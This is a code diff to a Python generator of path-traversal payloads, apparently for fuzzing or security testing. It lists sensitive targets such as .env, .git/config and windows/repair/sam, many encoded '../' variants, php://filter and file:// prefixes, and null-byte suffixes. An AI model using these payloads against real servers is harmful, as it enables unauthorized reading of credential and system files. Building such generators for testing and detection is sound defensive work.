@@ -25,8 +25,8 @@ APP_TARGETS = ("WEB-INF/web.xml", ".env", ".git/config", "config/database.yml", 
 WINDOWS_TARGETS = ("windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config",
                    "windows/repair/sam")
 STEPS = ("../", "../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%c0%af", "%c0%ae%c0%ae/", "....//", "..;/",
-         ".%2e/", "..%5c", "..\\/", "%252e%252e%252f", "..%255c", "%2e%2e%5c", "..././", "..%u2216",
-         "%uff0e%uff0e/", "..%ef%bc%8f")
+         ".%2e/", "..%5c", "..\\/", "%252e%252e%252f", "..%255c", "%2e%2e%5c", "..././", "..%ef%bc%8f",
+         "%2e%2e%c0%af", "..%252f")
 PREFIXES = ("", "", "/", "./", "static/", "images/", "/var/www/html/", "uploads/../", "file://", "php://filter/resource=")
 SUFFIXES = ("", "", "", "%00", "%00.png", "\x00.jpg", "?", "#", ".")
 
@@ -61,7 +61,7 @@ def _absolute(rng: random.Random) -> str:
     r = rng.random()
     if r < 0.6:
         path = "/" + _target_path(one(rng, UNIX_TARGETS), rng)
-        return one(rng, ("", "", "file://", "php://filter/convert.base64-encode/resource=", "/" , "\\\\localhost\\c$")) + path
+        return one(rng, ("", "", "file://", "php://filter/convert.base64-encode/resource=", "/", "file:")) + path
     win = one(rng, WINDOWS_TARGETS).replace("/", "\\")
     return one(rng, ("C:\\", "c:/", "C:\\\\", "\\\\?\\C:\\", "file:///C:/", "\\\\127.0.0.1\\c$\\")) + win
 
